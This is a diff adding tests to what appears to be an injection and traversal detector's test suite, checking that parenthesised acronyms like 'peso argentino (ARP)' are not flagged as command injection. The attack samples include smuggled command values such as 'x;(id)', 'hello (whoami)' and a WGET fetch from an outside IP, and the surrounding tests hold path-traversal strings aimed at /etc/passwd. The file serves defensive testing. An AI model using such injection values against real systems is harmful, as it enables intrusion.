@@ -65,3 +65,17 @@ describe("traversal: an ellipsis ends a sentence", () => {
     for (const value of ["..", "../", "foo/..", "/img../etc/passwd"]) assert.ok(score(value) >= 0.5, `${value}: ${score(value)}`);
   });
 });
+
+// Unicode CLDR's currency names (`peso argentino (ARP)`) and any glossary spell out an acronym in parentheses.
+describeRules("cmdi: an acronym in parentheses after a name", (value) => scoreOf(cmdiDetector, value, "body", "name"), {
+  "(ARP), (SSH) after words": {
+    attacks: ["hello (whoami)", "x; (ARP)", "x;(id)", "a (WGET http://203.0.113.9/a)"],
+    benign: [
+      "peso argentino (ARP)",
+      "അർജൻറീൻ പെയ്സോ (ARP)",
+      "Address Resolution Protocol (ARP)",
+      "Secure Shell (SSH) keys",
+      "Domain Name System (DNS) and Network File System (NFS)",
+    ],
+  },
+});
